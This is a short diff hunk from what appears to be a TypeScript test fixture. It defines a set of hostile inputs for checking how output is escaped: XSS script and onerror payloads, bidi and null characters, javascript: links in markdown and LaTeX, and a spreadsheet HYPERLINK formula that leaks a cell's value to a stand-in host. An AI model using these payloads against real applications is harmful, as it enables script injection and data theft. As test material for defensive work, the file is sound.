@@ -87,7 +87,7 @@ export const every: readonly Evidence[] = [
 export const hostile = {
   script: '<script>document.title = "owned"</script><img src=x onerror="document.title=1">',
   direction: 'right \u202Eleft\u202C, none\u200B, nul\u0000, half \uD800',
-  long: `${'0123456789 '.repeat(9_310)}`,
+  long: '0123456789 '.repeat(9_310),
   formula: '=HYPERLINK("https://example.invalid/?leak="&A1,"total")',
   markdown:
     '](javascript:alert(1)) | ![x](https://example.invalid/x.png) `` ` `` $\\href{javascript:alert(1)}{x}$\n# heading',
